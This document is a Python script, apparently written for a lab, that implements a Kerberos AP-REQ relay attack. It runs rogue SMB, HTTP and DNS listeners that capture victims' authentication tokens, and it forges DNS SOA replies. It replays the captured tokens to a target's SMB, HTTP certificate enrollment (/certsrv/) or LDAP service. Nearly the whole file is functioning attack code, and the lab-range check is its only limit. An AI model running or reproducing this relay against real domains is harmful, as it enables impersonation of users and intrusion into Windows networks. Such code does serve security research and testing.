#!/usr/bin/env python3
"""Carries a victim's Kerberos AP-REQ on in a session of its own, as Kerberos relay tools do: no such tool
is packaged. It listens on SMB, HTTP and DNS (TKEY), takes the GSS token out of the first message that has
one, and presents it, unchanged, to one target. What comes after the logon is not attempted.

usage: ap_req_relay.py JOURNAL none|smb|http|ldap [TARGET]
"""

import base64
import http.client
import ipaddress
import os
import socket
import struct
import sys
import threading
import time

from impacket.smb3 import SMB2_SESSION_SETUP
from impacket.smb3structs import SMB2SessionSetup
from impacket.smbconnection import SMBConnection
from impacket.spnego import TypesMech, SPNEGO_NegTokenInit

from journal import Journal
from sql import receive

JOURNAL = Journal(sys.argv[1])
KIND = sys.argv[2]
TARGET = sys.argv[3] if len(sys.argv) > 3 else None
LAB = ipaddress.ip_network(os.environ["LAB_NET"])

SMB2 = b"\xfeSMB"
NEGOTIATE, SESSION_SETUP = 0, 1
LOGON_FAILURE = 0xC000006D
GSS_TOKEN = b"\x60\x82"  # [APPLICATION 0] with two bytes of length, RFC 2743 3.1
SOA, TKEY, REFUSED = 6, 249, 5


def carry_on(token, carrier):
    """Presents the token to the target; True if that took it"""
    outcome = {"none": lambda _: False, "smb": to_smb, "http": to_http, "ldap": to_ldap}[KIND](token)
    JOURNAL.write("ap_req", carrier=carrier, kind=KIND, target=TARGET, accepted=outcome)
    return outcome


def to_smb(token):
    smb = SMBConnection(TARGET, TARGET, timeout=8).getSMBServer()
    setup = SMB2SessionSetup()
    setup["Flags"], setup["SecurityMode"] = 0, 1
    setup["SecurityBufferLength"], setup["Buffer"] = len(token), token
    packet = smb.SMB_PACKET()
    packet["Command"], packet["Data"] = SMB2_SESSION_SETUP, setup
    return smb.recvSMB(smb.sendSMB(packet))["Status"] == 0


def to_http(token):
    connection = http.client.HTTPConnection(TARGET, 80, timeout=8)
    credentials = "Negotiate " + base64.b64encode(token).decode()
    connection.request("GET", "/certsrv/", headers={"Authorization": credentials})
    return connection.getresponse().status == 200


def to_ldap(token):
    def tlv(tag, value):
        length = len(value)
        size = bytes((length,)) if length < 128 else b"\x82" + struct.pack(">H", length)
        return bytes((tag,)) + size + value

    sasl = tlv(0xA3, tlv(4, b"GSS-SPNEGO") + tlv(4, token))
    bind = tlv(0x60, tlv(2, b"\3") + tlv(4, b"") + sasl)
    with socket.create_connection((TARGET, 389), 8) as connection:
        connection.sendall(tlv(0x30, tlv(2, b"\1") + bind))
        return b"\x61" in connection.recv(4096)[:12]


def serve_smb(connection, _):
    try:
        while True:
            length = struct.unpack(">I", receive(connection, 4))[0] & 0xFFFFFF
            request = receive(connection, length)
            command, message_id = struct.unpack_from("<H", request, 12)[0], request[24:32]
            if command == NEGOTIATE:
                body = negotiate_response()
                status = 0
            else:
                at = request.find(GSS_TOKEN)
                status = 0 if at > 0 and carry_on(request[at:], "smb") else LOGON_FAILURE
                body = struct.pack("<HHHH", 9, 0, 72, 0)
            head = SMB2 + struct.pack("<HHIHHII", 64, 1, status, command, 1, 1, 0) + message_id
            head += struct.pack("<IIQ", 0, 0, 0x1C1D) + bytes(16)
            connection.sendall(struct.pack(">I", len(head + body)) + head + body)
    except (OSError, EOFError):
        pass
    finally:
        connection.close()


def negotiate_response():
    """Dialect 2.0.2, MS-SMB2 2.2.4, with Kerberos as the one mechanism"""
    offer = SPNEGO_NegTokenInit()
    offer["MechTypes"] = [TypesMech["MS KRB5 - Microsoft Kerberos 5"], TypesMech["KRB5 - Kerberos 5"]]
    blob = offer.getData()
    now = int((time.time() + 11644473600) * 10_000_000)
    body = struct.pack("<HHHH", 65, 1, 0x0202, 0) + os.urandom(16)
    body += struct.pack("<IIIIQQHHI", 0, 65536, 65536, 65536, now, 0, 128, len(blob), 0)
    return body + blob


def serve_http(connection, _):
    stream = connection.makefile("rb")
    try:
        while True:
            token = None
            if not stream.readline():
                break
            while line := stream.readline().strip():
                if line.lower().startswith(b"authorization: negotiate "):
                    token = base64.b64decode(line.split()[-1])
            accepted = token is not None and carry_on(token, "http")
            status = b"200 OK" if accepted else b"401 Unauthorized\r\nWWW-Authenticate: Negotiate"
            connection.sendall(b"HTTP/1.1 " + status + b"\r\nContent-Length: 0\r\n\r\n")
    except OSError:
        pass
    finally:
        connection.close()


def dns_answer(query):
    """An SOA that names the real server, so that the client gets a ticket for that; TKEY is taken"""
    question_end = query.index(b"\0", 12) + 5
    kind = struct.unpack_from(">H", query, question_end - 4)[0]
    if kind == SOA:
        name = b"".join(bytes((len(part),)) + part.encode() for part in os.environ["DC_FQDN"].split("."))
        data = name + b"\0" + b"\x05admin\0" + struct.pack(">5I", 1, 900, 600, 86400, 3600)
        record = b"\xc0\x0c" + struct.pack(">HHIH", SOA, 1, 100, len(data)) + data
        return query[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + query[12:question_end] + record
    if kind == TKEY and (at := query.find(GSS_TOKEN)) > 0:
        length = struct.unpack_from(">H", query, at + 2)[0] + 4
        carry_on(query[at : at + length], "dns")
    return query[:2] + b"\x81\x80\0\1\0\0\0\0\0\0"[:1] + bytes((0x80 | REFUSED,)) + b"\0\1\0\0\0\0\0\0" + query[12:question_end]


def serve_dns(connection, _):
    try:
        while True:
            query = receive(connection, struct.unpack(">H", receive(connection, 2))[0])
            answer = dns_answer(query)
            connection.sendall(struct.pack(">H", len(answer)) + answer)
    except (OSError, EOFError):
        pass
    finally:
        connection.close()


def serve_dns_udp(server):
    while True:
        query, peer = server.recvfrom(4096)
        server.sendto(dns_answer(query), peer)


def main():
    if TARGET and ipaddress.ip_address(TARGET) not in LAB:
        raise SystemExit(f"{TARGET} is not in the lab")
    for port, serve in ((445, serve_smb), (80, serve_http), (53, serve_dns)):
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((os.environ["EVIL"], port))
        listener.listen(8)
        threading.Thread(target=accept_forever, args=(listener, serve), daemon=True).start()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((os.environ["EVIL"], 53))
    serve_dns_udp(udp)


def accept_forever(listener, serve):
    while True:
        threading.Thread(target=serve, args=listener.accept(), daemon=True).start()


if __name__ == "__main__":
    main()
